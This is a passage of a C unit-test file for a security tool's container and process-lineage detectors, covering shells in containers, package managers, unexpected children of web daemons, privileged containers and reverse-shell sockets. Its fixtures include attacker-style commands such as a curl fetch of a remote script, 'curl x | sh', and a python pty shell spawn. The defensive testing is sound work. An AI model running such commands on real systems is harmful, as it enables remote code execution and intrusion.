/* The container and lineage judges on snapshots built here:
 * shell-in-container, package-manager-in-container, unexpected-child,
 * privileged-container and stdio-to-socket, each with what it must find,
 * the false positives it must not make, and the facets it asks for. */
#include <criterion/criterion.h>
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>

#include "model/nstab.h"
#include "proc/net.h"
#include "scan/commlist.h"
#include "scan/judge.h"
#include "scan/rules.h"
#include "util/redact.h"
#include "unit/builtin_rules.h"
#include "unit/snapkit.h"

extern const struct judge judge_shell_container;
extern const struct judge judge_pkgmgr;
extern const struct judge judge_unexpected_child;
extern const struct judge judge_privileged;
extern const struct judge judge_stdio_socket;

static struct ruleset rs;
static struct redactor red;
static struct host_ref href;
static struct judge_ctx jc;

static void setup(void)
{
	builtin_ruleset(&rs);
	cr_assert_eq(redactor_init_hex(&red, "00112233445566778899", false), 0);
	memset(&href, 0, sizeof(href));
	href.ns[NS_PID] = 4026531836;
	href.ns[NS_NET] = 4026531840;
	href.ns[NS_IPC] = 4026531839;
	href.hz = 100;
	jc = (struct judge_ctx){.rules = &rs, .red = &red, .host = &href};
}

static void teardown(void)
{
	ruleset_release(&rs);
}

TestSuite(container, .init = setup, .fini = teardown);

/* The one finding judge j makes of s (failing unless exactly one). */
static const struct finding *one(const struct judge *j, const struct psnap *s,
				 struct findings *l)
{
	cr_assert_eq(snapkit_run(j, &jc, s, l), 0);
	cr_assert_eq(l->n, 1, "%s: %zu findings, want 1", j->id, l->n);
	cr_assert_str_eq(l->f[0].judge, j->id);
	cr_assert_eq(l->f[0].kind, KIND_INDICATOR);
	cr_assert_eq(l->f[0].pid, s->proc.pid);
	cr_assert_null(l->f[0].evidence);
	return &l->f[0];
}

static void none(const struct judge *j, const struct psnap *s)
{
	struct findings l = {0};
	snapkit_run(j, &jc, s, &l);
	cr_assert_eq(l.n, 0, "%s: unexpected finding: %s", j->id,
		     l.n ? l.f[0].message : "");
	findings_release(&l);
}

static void fact_str(const struct finding *f, const char *key, const char *want)
{
	const struct finding_fact *x = snapkit_fact(f, key);
	cr_assert(x, "no fact %s", key);
	cr_assert_eq(x->type, FACT_STR, "%s", key);
	cr_assert_str_eq(x->str, want, "%s", key);
}

static void fact_int(const struct finding *f, const char *key, long long v)
{
	const struct finding_fact *x = snapkit_fact(f, key);
	cr_assert(x, "no fact %s", key);
	cr_assert_eq(x->num, v, "%s: %lld, want %lld", key, x->num, v);
}

static bool has_tag(const struct finding *f, const char *tag)
{
	size_t i;
	for (i = 0; i < f->ntags; i++)
		if (!strcmp(f->tags[i], tag))
			return true;
	return false;
}

/* ---- the name lists ---- */

Test(container, commlist_patterns)
{
	cr_assert(commlist_match(commlist_shells, "bash"));
	cr_assert(!commlist_match(commlist_shells, "bashful"));
	cr_assert(!commlist_match(commlist_shells, ""));
	cr_assert(!commlist_match(commlist_shells, NULL));
	cr_assert(commlist_match(commlist_runtimes, "runc:[2:INIT]"));
	cr_assert(commlist_match(commlist_runtimes, "containerd-shim"));
	cr_assert(commlist_match(commlist_pkgmgrs, "update-alternat"));
	cr_assert(commlist_match(commlist_pkgmgrs, "pip3.11"));
	cr_assert(!commlist_match(commlist_pkgmgrs, "pipewire"));
	cr_assert(commlist_match(commlist_interpreters, "python3"));
	cr_assert(!commlist_match(commlist_interpreters, "pythonista"));
	cr_assert(commlist_match(commlist_daemons, "php-fpm8.2"));
}

/* ---- shell-in-container ---- */

/* bash (pid 300) with a tty in a container. */
static void ctr_shell(struct psnap *s, const char *comm)
{
	snapkit_init(s, 300, comm);
	snapkit_container(s, NULL);
	snapkit_tty(s, 34816);
}

Test(container, shell_parent_runtime)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_shell(&s, "bash");
	cr_assert_eq(judge_shell_container.more(&s), FACET_BIT(FACET_KIN));
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	f = one(&judge_shell_container, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	cr_assert_str_eq(f->container, SNAPKIT_CID);
	fact_str(f, "tty", "pts/0");
	fact_int(f, "parent_pid", 250);
	fact_str(f, "parent_comm", "containerd-shim");
	fact_str(f, "why", "parent is the runtime");
	cr_assert(has_tag(f, "T1059.004"));
	findings_release(&l);
	psnap_release(&s);
}

/* runc's own names, whatever the parent's cgroup. */
Test(container, shell_parent_runc_init)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "sh");
	snapkit_kin(&s, 0, 251, "runc:[2:INIT]", SNAPKIT_CID);
	fact_str(one(&judge_shell_container, &s, &l), "why",
		 "parent is the runtime");
	findings_release(&l);
	psnap_release(&s);
}

/* kubectl exec through a runtime with another name: the parent is a
 * host process. */
Test(container, shell_parent_outside)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_shell(&s, "zsh");
	snapkit_kin(&s, 0, 252, "myruntime", "");
	f = one(&judge_shell_container, &s, &l);
	fact_str(f, "why", "parent is outside the container");
	fact_str(f, "parent_container", "");
	findings_release(&l);
	psnap_release(&s);
}

Test(container, shell_parent_init)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "bash");
	snapkit_kin(&s, 0, 253, "tini", SNAPKIT_CID);
	fact_str(one(&judge_shell_container, &s, &l), "why",
		 "parent is the container's init");
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: bash in a container without a tty (an entrypoint script). */
Test(container, shell_trap_no_tty)
{
	struct psnap s;
	ctr_shell(&s, "bash");
	snapkit_tty(&s, 0);
	cr_assert_eq(judge_shell_container.more(&s), 0);
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Trap: a shell started by another shell of the same container. */
Test(container, shell_trap_shell_parent)
{
	struct psnap s;
	ctr_shell(&s, "sh");
	snapkit_kin(&s, 0, 299, "bash", SNAPKIT_CID);
	snapkit_kin(&s, 1, 250, "containerd-shim", "");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Trap: a host shell with a tty; a container process not a shell. */
Test(container, shell_trap_host_and_not_shell)
{
	struct psnap s;
	snapkit_init(&s, 300, "bash");
	snapkit_tty(&s, 34816);
	snapkit_kin(&s, 0, 250, "sshd", "");
	cr_assert_eq(judge_shell_container.more(&s), 0);
	none(&judge_shell_container, &s);
	psnap_release(&s);
	ctr_shell(&s, "vim");
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	cr_assert_eq(judge_shell_container.more(&s), 0);
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* Without the parent there is nothing to judge: no guess. */
Test(container, shell_no_kin)
{
	struct psnap s;
	ctr_shell(&s, "bash");
	none(&judge_shell_container, &s);
	psnap_release(&s);
}

/* The chain read but no parent in it (gone, or its pid reused): no
 * guess, and, as for any process that vanished, no error (the facet
 * was read: the process is judged whole). */
Test(container, shell_parent_gone)
{
	struct psnap s;
	struct findings l = {0};
	ctr_shell(&s, "bash");
	s.proc.ppid = 250;
	s.loaded |= FACET_BIT(FACET_KIN);
	cr_assert_eq(snapkit_run(&judge_shell_container, &jc, &s, &l), 0);
	cr_assert_eq(l.n, 0);
	psnap_release(&s);
}

/* ---- package-manager-in-container ---- */

Test(container, pkgmgr_found)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	snapkit_init(&s, 400, "apt-get");
	snapkit_container(&s, NULL);
	cr_assert_eq(judge_pkgmgr.more(&s), FACET_BIT(FACET_KIN));
	snapkit_kin(&s, 0, 399, "bash", SNAPKIT_CID);
	snapkit_kin(&s, 1, 250, "containerd-shim", "");
	snapkit_kin(&s, 2, 1, "systemd", NULL);
	f = one(&judge_pkgmgr, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	fact_int(f, "ancestors_checked", 3);
	fact_int(f, "parent_pid", 399);
	fact_str(f, "parent_comm", "bash");
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: dpkg run by apt (parent), or by apt through a shell (an
 * ancestor within Falco's four). */
Test(container, pkgmgr_trap_apt_runs_dpkg)
{
	struct psnap s;
	snapkit_init(&s, 401, "dpkg");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 400, "apt-get", SNAPKIT_CID);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
	snapkit_init(&s, 402, "dpkg");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 401, "sh", SNAPKIT_CID);
	snapkit_kin(&s, 1, 400, "sh", NULL);
	snapkit_kin(&s, 2, 399, "apt", NULL);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
}

/* A package manager five generations up is past Falco's ancestors. */
Test(container, pkgmgr_far_ancestor_not_checked)
{
	struct psnap s;
	struct findings l = {0};
	size_t k;
	snapkit_init(&s, 410, "pip3.11");
	snapkit_container(&s, NULL);
	for (k = 0; k < 4; k++)
		snapkit_kin(&s, k, (pid_t)(409 - k), "sh",
			    k ? NULL : SNAPKIT_CID);
	snapkit_kin(&s, 4, 405, "apt", NULL);
	fact_int(one(&judge_pkgmgr, &s, &l), "ancestors_checked", 4);
	findings_release(&l);
	psnap_release(&s);
}

/* The parent gone or its pid reused between the reads: reported at low
 * confidence, said in the message and the facts. */
Test(container, pkgmgr_parent_gone)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	snapkit_init(&s, 440, "apt-get");
	snapkit_container(&s, NULL);
	s.proc.ppid = 439;
	s.loaded |= FACET_BIT(FACET_KIN);
	f = one(&judge_pkgmgr, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	cr_assert_eq(f->confidence, CONF_LOW);
	fact_int(f, "ancestors_checked", 0);
	fact_int(f, "ancestors_unknown", 1);
	fact_int(f, "parent_pid", 439);
	cr_assert(strstr(f->message, "gone"), "%s", f->message);
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: apt on the host; a name that only starts like one. */
Test(container, pkgmgr_trap_host_and_names)
{
	struct psnap s;
	snapkit_init(&s, 420, "apt");
	snapkit_kin(&s, 0, 1, "systemd", "");
	cr_assert_eq(judge_pkgmgr.more(&s), 0);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
	snapkit_init(&s, 421, "pipewire");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 1, "containerd-shim", "");
	cr_assert_eq(judge_pkgmgr.more(&s), 0);
	none(&judge_pkgmgr, &s);
	psnap_release(&s);
}

Test(container, pkgmgr_cut_comm)
{
	struct psnap s;
	struct findings l = {0};
	snapkit_init(&s, 430, "update-alternat");
	snapkit_container(&s, NULL);
	snapkit_kin(&s, 0, 250, "containerd-shim", "");
	one(&judge_pkgmgr, &s, &l);
	findings_release(&l);
	psnap_release(&s);
}

/* ---- unexpected-child ---- */

static void child(struct psnap *s, pid_t pid, const char *comm,
		  const char *parent, const char *const *argv)
{
	snapkit_init(s, pid, comm);
	snapkit_argv(s, argv);
	snapkit_kin(s, 0, 500, parent, "");
}

Test(container, child_shell_under_nginx)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const argv[] = {"/bin/sh", "-c", "id; uname -a",
					   NULL};
	child(&s, 501, "sh", "nginx", argv);
	cr_assert_eq(judge_unexpected_child.more(&s),
		     FACET_BIT(FACET_KIN) | FACET_BIT(FACET_ARGV));
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_str_eq(f->rule, "unexpected-child");
	fact_int(f, "parent_pid", 500);
	fact_str(f, "parent_comm", "nginx");
	fact_str(f, "child_comm", "sh");
	fact_str(f, "command", "/bin/sh -c id; uname -a");
	cr_assert(has_tag(f, "T1505.003"));
	cr_assert(has_tag(f, "T1059.004"));
	findings_release(&l);
	psnap_release(&s);
}

Test(container, child_tool_under_php_fpm)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const argv[] = {"curl", "-s",
					   "http://203.0.113.9/x.sh", NULL};
	child(&s, 502, "curl", "php-fpm8.2", argv);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert(has_tag(f, "T1059"));
	findings_release(&l);
	psnap_release(&s);
}

/* A secret on the child's command line is redacted in the fact. */
Test(container, child_command_redacted)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding_fact *x;
	static const char *const argv[] = {"curl", "-u", "admin:Cur1UsrPw3344",
					   "https://example.com/", NULL};
	child(&s, 503, "curl", "java", argv);
	x = snapkit_fact(one(&judge_unexpected_child, &s, &l), "command");
	cr_assert(x);
	cr_assert(!strstr(x->str, "Cur1UsrPw3344"), "%s", x->str);
	cr_assert(strstr(x->str, "https://example.com/"), "%s", x->str);
	findings_release(&l);
	psnap_release(&s);
}

/* Interpreters count with code on their command line alone. */
Test(container, child_interpreter_one_liner)
{
	struct psnap s;
	struct findings l = {0};
	static const char *const code[] = {
		"python3", "-uc", "import pty;pty.spawn('/bin/sh')", NULL};
	static const char *const script[] = {"python3", "/app/job.py", "-c",
					     "x", NULL};
	static const char *const perl_inc[] = {"perl", "-I/e/lib", "run.pl",
					       NULL};
	static const char *const perl_ne[] = {"perl", "-ne", "print", NULL};
	child(&s, 504, "python3", "java", code);
	one(&judge_unexpected_child, &s, &l);
	findings_release(&l);
	psnap_release(&s);
	child(&s, 505, "python3", "java", script);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 506, "perl", "httpd", perl_inc);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 507, "perl", "httpd", perl_ne);
	one(&judge_unexpected_child, &s, &l);
	findings_release(&l);
	psnap_release(&s);
}

/* Traps: postgres forking postgres; bash under sshd; a shell under a
 * shell. */
Test(container, child_traps)
{
	struct psnap s;
	static const char *const pg[] = {"postgres: checkpointer", NULL};
	static const char *const bash[] = {"-bash", NULL};
	child(&s, 510, "postgres", "postgres", pg);
	cr_assert_eq(judge_unexpected_child.more(&s), 0);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 511, "bash", "sshd", bash);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
	child(&s, 512, "bash", "bash", bash);
	none(&judge_unexpected_child, &s);
	psnap_release(&s);
}

/* VS Code Remote's terminals are bash on a pty under node (ptyHost),
 * JetBrains' under java: low, with the reason; the same shell without a
 * terminal, or with one under another daemon, stays high. */
Test(container, child_ide_terminal)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const bash[] = {"/bin/bash", "--init-file",
					   "/home/u/.vscode-server/x.sh", NULL};
	static const char *const sh_c[] = {"/bin/sh", "-c", "id", NULL};
	static const char *const parents[] = {"node", "java", "nodejs"};
	size_t i;
	for (i = 0; i < 3; i++) {
		child(&s, 530, "bash", parents[i], bash);
		snapkit_tty(&s, 34817);
		f = one(&judge_unexpected_child, &s, &l);
		cr_assert_eq(f->severity, SEV_LOW, "%s", parents[i]);
		cr_assert_eq(f->confidence, CONF_LOW);
		cr_assert_str_eq(f->rule, "unexpected-child-terminal");
		fact_str(f, "parent_comm", parents[i]);
		fact_int(f, "tty_nr", 34817);
		cr_assert(strstr(snapkit_fact(f, "reason")->str, "IDE"));
		findings_release(&l);
		psnap_release(&s);
		memset(&l, 0, sizeof(l));
	}
	child(&s, 531, "sh", "node", sh_c); /* no terminal: a webshell's */
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_str_eq(f->rule, "unexpected-child");
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 532, "bash", "nginx", bash); /* a pty under nginx */
	snapkit_tty(&s, 34817);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 533, "curl", "node", bash); /* a tool, not a shell */
	snapkit_tty(&s, 34817);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
}

/* php's mail(): low, unless the command does more than sendmail. */
Test(container, child_php_sendmail)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	static const char *const mail[] = {"sh", "-c",
					   "/usr/sbin/sendmail -t -i ", NULL};
	static const char *const more_than[] = {
		"sh", "-c", "/usr/sbin/sendmail -t; curl x | sh", NULL};
	child(&s, 520, "sh", "php-fpm8.2", mail);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_LOW);
	cr_assert_str_eq(f->rule, "unexpected-child-sendmail");
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	child(&s, 521, "sh", "php-fpm8.2", more_than);
	f = one(&judge_unexpected_child, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
}

/* ---- privileged-container ---- */

/* A container process with status text and, unless lsm is (char *)-1,
 * the LSM facet read (label lsm, NULL: no LSM). */
static void ctr_status(struct psnap *s, const char *status, const char *lsm)
{
	snapkit_init(s, 600, "app");
	snapkit_container(s, NULL);
	snapkit_status(s, status);
	if (lsm != (const char *)-1) {
		s->lsm = lsm ? xstrdup(lsm) : NULL;
		s->loaded |= FACET_BIT(FACET_LSM);
	}
}

/* CapInh and CapPrm: the parser knows the capabilities only with all
 * four older sets. */
#define CAPS_IP "CapInh:\t0000000000000000\nCapPrm:\t0000000000000000\n"

#define DOCKER_DEFAULT                                           \
	"CapInh:\t0000000000000000\nCapPrm:\t00000000a80425fb\n" \
	"CapEff:\t00000000a80425fb\nCapBnd:\t00000000a80425fb\n" \
	"CapAmb:\t0000000000000000\nSeccomp:\t2\n"

Test(container, priv_full_caps)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_status(&s,
		   "CapInh:\t0000000000000000\nCapPrm:\t000001ffffffffff\n"
		   "CapEff:\t000001ffffffffff\nCapBnd:\t000001ffffffffff\n"
		   "CapAmb:\t0000000000000000\nSeccomp:\t0\n",
		   NULL);
	cr_assert_eq(judge_privileged.more(&s), FACET_BIT(FACET_STATUS) |
							FACET_BIT(FACET_NS) |
							FACET_BIT(FACET_LSM));
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	fact_int(f, "full_caps", 1);
	fact_int(f, "cap_sys_admin", 1);
	fact_int(f, "no_seccomp_no_lsm", 1);
	fact_int(f, "host_pid", 0);
	cr_assert_str_eq(f->where, "status:CapBnd");
	cr_assert(has_tag(f, "T1611"));
	findings_release(&l);
	psnap_release(&s);
}

/* A kernel with 38 capabilities (5.4) and every one of them; a set
 * missing one (CAP_SYS_RESOURCE) is not full. */
Test(container, priv_full_caps_older_kernel)
{
	struct psnap s;
	struct findings l = {0};
	ctr_status(&s,
		   CAPS_IP
		   "CapEff:\t0000000000000000\nCapBnd:\t0000003fffffffff\n"
		   "Seccomp:\t2\n",
		   "docker-default (enforce)");
	fact_int(one(&judge_privileged, &s, &l), "full_caps", 1);
	findings_release(&l);
	psnap_release(&s);
	ctr_status(&s,
		   CAPS_IP
		   "CapEff:\t0000000000000000\nCapBnd:\t000001fffeffffff\n"
		   "Seccomp:\t2\n",
		   "docker-default (enforce)");
	none(&judge_privileged, &s);
	psnap_release(&s);
}

Test(container, priv_sys_admin_alone)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_status(&s,
		   CAPS_IP
		   "CapEff:\t00000000a82425fb\nCapBnd:\t00000000a82425fb\n"
		   "Seccomp:\t2\n",
		   "cri-containerd.apparmor.d (enforce)");
	f = one(&judge_privileged, &s, &l);
	fact_int(f, "full_caps", 0);
	fact_int(f, "cap_sys_admin", 1);
	fact_int(f, "no_seccomp_no_lsm", 0);
	cr_assert_str_eq(f->where, "status:CapEff");
	findings_release(&l);
	psnap_release(&s);
}

/* Trap: Docker's defaults (its capabilities, its seccomp profile). */
Test(container, priv_trap_docker_default)
{
	struct psnap s;
	ctr_status(&s, DOCKER_DEFAULT, NULL);
	none(&judge_privileged, &s);
	psnap_release(&s);
}

/* Trap: a host process with every capability is no container's. */
Test(container, priv_trap_host_process)
{
	struct psnap s;
	snapkit_init(&s, 601, "systemd");
	snapkit_status(&s, CAPS_IP "CapEff:\t000001ffffffffff\n"
				   "CapBnd:\t000001ffffffffff\nSeccomp:\t0\n");
	s.ns[NS_PID] = href.ns[NS_PID];
	s.loaded |= FACET_BIT(FACET_NS);
	cr_assert_eq(judge_privileged.more(&s), 0);
	none(&judge_privileged, &s);
	psnap_release(&s);
}

#define NO_SECCOMP                                                       \
	CAPS_IP "CapEff:\t00000000a80425fb\nCapBnd:\t00000000a80425fb\n" \
		"Seccomp:\t0\n"

/* No seccomp: medium without an LSM or with an unconfined label; none
 * under an enforcing profile or a confined SELinux type, and none when
 * the label could not be read. */
Test(container, priv_seccomp_and_lsm)
{
	static const char *const loose[] = {
		"unconfined",
		"cri-containerd.apparmor.d (complain)",
		"system_u:system_r:spc_t:s0",
		"unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023",
	};
	static const char *const tight[] = {
		"docker-default (enforce)",
		"system_u:system_r:container_t:s0:c1,c2",
	};
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	size_t i;
	ctr_status(&s, NO_SECCOMP, NULL);
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	fact_int(f, "no_seccomp_no_lsm", 1);
	cr_assert_str_eq(f->where, "status:Seccomp");
	findings_release(&l);
	psnap_release(&s);
	for (i = 0; i < sizeof(loose) / sizeof(loose[0]); i++) {
		memset(&l, 0, sizeof(l));
		ctr_status(&s, NO_SECCOMP, loose[i]);
		f = one(&judge_privileged, &s, &l);
		fact_str(f, "lsm", loose[i]);
		findings_release(&l);
		psnap_release(&s);
	}
	for (i = 0; i < sizeof(tight) / sizeof(tight[0]); i++) {
		ctr_status(&s, NO_SECCOMP, tight[i]);
		none(&judge_privileged, &s);
		psnap_release(&s);
	}
	ctr_status(&s, NO_SECCOMP, (const char *)-1);
	none(&judge_privileged, &s);
	psnap_release(&s);
}

/* hostPID, hostNetwork, hostIPC: the host's namespace inodes. */
Test(container, priv_host_namespaces)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_status(&s, DOCKER_DEFAULT, NULL);
	s.ns[NS_PID] = 4026532500;
	s.ns[NS_NET] = href.ns[NS_NET];
	s.ns[NS_IPC] = href.ns[NS_IPC];
	s.loaded |= FACET_BIT(FACET_NS);
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_eq(f->confidence, CONF_HIGH);
	fact_int(f, "host_pid", 0);
	fact_int(f, "host_net", 1);
	fact_int(f, "host_ipc", 1);
	cr_assert_str_eq(f->where, "ns:net");
	cr_assert_null(snapkit_fact(f, "host_ns_from_self"));
	findings_release(&l);
	/* The reference from procsift's own namespaces: said, and less
	 * sure. */
	memset(&l, 0, sizeof(l));
	href.ns_from_self = true;
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->confidence, CONF_MEDIUM);
	fact_int(f, "host_ns_from_self", 1);
	findings_release(&l);
	href.ns_from_self = false;
	/* Unknown host: nothing to compare with. */
	jc.host = NULL;
	none(&judge_privileged, &s);
	jc.host = &href;
	psnap_release(&s);
}

/* hostNetwork alone, as every process of kubeadm's static pods (etcd,
 * kube-apiserver, their pause containers) has it: medium, with the
 * reason; with CAP_SYS_ADMIN, full caps or host pid/ipc, high. */
Test(container, priv_host_network_alone)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	ctr_status(&s, DOCKER_DEFAULT, NULL);
	s.ns[NS_PID] = 4026532500;
	s.ns[NS_IPC] = 4026532501;
	s.ns[NS_NET] = href.ns[NS_NET];
	s.loaded |= FACET_BIT(FACET_NS);
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	cr_assert_eq(f->confidence, CONF_HIGH);
	cr_assert_str_eq(f->where, "ns:net");
	fact_int(f, "host_net", 1);
	cr_assert(strstr(snapkit_fact(f, "reason")->str, "network alone"));
	findings_release(&l);
	psnap_release(&s);
	/* And without seccomp or an LSM: still medium, both said. */
	memset(&l, 0, sizeof(l));
	ctr_status(&s, NO_SECCOMP, NULL);
	s.ns[NS_PID] = 4026532500;
	s.ns[NS_NET] = href.ns[NS_NET];
	s.loaded |= FACET_BIT(FACET_NS);
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_MEDIUM);
	fact_int(f, "no_seccomp_no_lsm", 1);
	cr_assert_str_eq(f->where, "ns:net");
	findings_release(&l);
	psnap_release(&s);
	/* With CAP_SYS_ADMIN: high, no reason of host network alone. */
	memset(&l, 0, sizeof(l));
	ctr_status(&s,
		   CAPS_IP
		   "CapEff:\t00000000a82425fb\nCapBnd:\t00000000a82425fb\n"
		   "Seccomp:\t2\n",
		   NULL);
	s.ns[NS_NET] = href.ns[NS_NET];
	s.loaded |= FACET_BIT(FACET_NS);
	f = one(&judge_privileged, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_null(snapkit_fact(f, "reason"));
	findings_release(&l);
	psnap_release(&s);
	/* With the host's ipc namespace too: high. */
	memset(&l, 0, sizeof(l));
	ctr_status(&s, DOCKER_DEFAULT, NULL);
	s.ns[NS_NET] = href.ns[NS_NET];
	s.ns[NS_IPC] = href.ns[NS_IPC];
	s.loaded |= FACET_BIT(FACET_NS);
	cr_assert_eq(one(&judge_privileged, &s, &l)->severity, SEV_HIGH);
	findings_release(&l);
	psnap_release(&s);
}

/* ---- stdio-to-socket ---- */

/* A snapshot's own socket table with one IP socket. */
static struct net_sock *add_sock(struct psnap *s, enum net_proto proto,
				 uint64_t inode, const char *local,
				 unsigned lport, const char *remote,
				 unsigned rport, unsigned state)
{
	struct netns *n = s->own_net;
	struct net_sock *k;
	int af = proto == NET_TCP6 || proto == NET_UDP6 ? AF_INET6 : AF_INET;
	if (!n) {
		n = xcalloc(1, sizeof(*n));
		s->own_net = n;
		s->net = n;
		s->loaded |= FACET_BIT(FACET_SOCKETS);
	}
	n->socks = xrealloc(n->socks, (n->n + 1) * sizeof(*n->socks));
	k = &n->socks[n->n++];
	memset(k, 0, sizeof(*k));
	k->proto = proto;
	k->inode = inode;
	cr_assert_eq(inet_pton(af, local, k->local), 1);
	cr_assert_eq(inet_pton(af, remote, k->remote), 1);
	k->local_port = lport;
	k->remote_port = rport;
	k->state = state;
	qsort(n->socks, n->n, sizeof(*n->socks), net_sock_cmp_inode);
	return k;
}

static void shell_on(struct psnap *s, const char *comm, const char *l0,
		     const char *l1, const char *l2)
{
	snapkit_init(s, 700, comm);
	s->fds.n = 0;
	if (l0)
		snapkit_fd(s, 0, l0, 2);
	if (l1)
		snapkit_fd(s, 1, l1, 2);
	if (l2)
		snapkit_fd(s, 2, l2, 2);
	snapkit_fd(s, 255, "/dev/pts/3", 2);
}

Test(container, stdio_reverse_shell_remote)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	shell_on(&s, "bash", "socket:[9001]", "socket:[9001]", "socket:[9001]");
	cr_assert_eq(judge_stdio_socket.more(&s),
		     FACET_BIT(FACET_FDLINKS) | FACET_BIT(FACET_SOCKETS));
	add_sock(&s, NET_TCP, 9001, "10.0.0.2", 51234, "198.51.100.7", 4444, 1);
	f = one(&judge_stdio_socket, &s, &l);
	cr_assert_eq(f->severity, SEV_CRITICAL);
	cr_assert_str_eq(f->where, "fd:0");
	fact_str(f, "fds", "0,1,2");
	fact_str(f, "proto", "tcp");
	fact_str(f, "local", "10.0.0.2:51234");
	fact_str(f, "peer", "198.51.100.7:4444");
	fact_int(f, "peer_loopback", 0);
	fact_str(f, "state", "ESTABLISHED");
	cr_assert(has_tag(f, "T1059.004"));
	cr_assert(has_tag(f, "T1071"));
	findings_release(&l);
	psnap_release(&s);
}

Test(container, stdio_loopback_and_v6)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	shell_on(&s, "sh", "socket:[9002]", "socket:[9002]", "pipe:[5]");
	add_sock(&s, NET_TCP, 9002, "127.0.0.1", 40000, "127.0.0.1", 4444, 1);
	f = one(&judge_stdio_socket, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	fact_str(f, "fds", "0,1");
	fact_str(f, "peer", "127.0.0.1:4444");
	fact_int(f, "peer_loopback", 1);
	findings_release(&l);
	psnap_release(&s);
	memset(&l, 0, sizeof(l));
	shell_on(&s, "python3", "socket:[9003]", "socket:[9003]", NULL);
	add_sock(&s, NET_TCP6, 9003, "::1", 40001, "::1", 4444, 1);
	f = one(&judge_stdio_socket, &s, &l);
	fact_str(f, "proto", "tcp6");
	fact_str(f, "peer", "[::1]:4444");
	fact_int(f, "peer_loopback", 1);
	cr_assert(has_tag(f, "T1059"));
	findings_release(&l);
	psnap_release(&s);
}

Test(container, stdio_udp_output_only)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	shell_on(&s, "perl", "/dev/null", "socket:[9004]", "socket:[9004]");
	add_sock(&s, NET_UDP, 9004, "10.0.0.2", 5353, "192.0.2.1", 53, 1);
	f = one(&judge_stdio_socket, &s, &l);
	cr_assert_eq(f->severity, SEV_HIGH);
	cr_assert_eq(f->confidence, CONF_MEDIUM);
	cr_assert_str_eq(f->where, "fd:1");
	fact_str(f, "proto", "udp");
	fact_str(f, "fds", "1,2");
	findings_release(&l);
	psnap_release(&s);
}

/* Traps: a service's stdout on journald's unix socket; a server (not a
 * shell) on a TCP socket; a socket-activated server's listening socket;
 * a socket no table knows. */
Test(container, stdio_traps)
{
	struct psnap s;
	struct netns *n;
	shell_on(&s, "bash", "/dev/null", "socket:[9010]", "socket:[9010]");
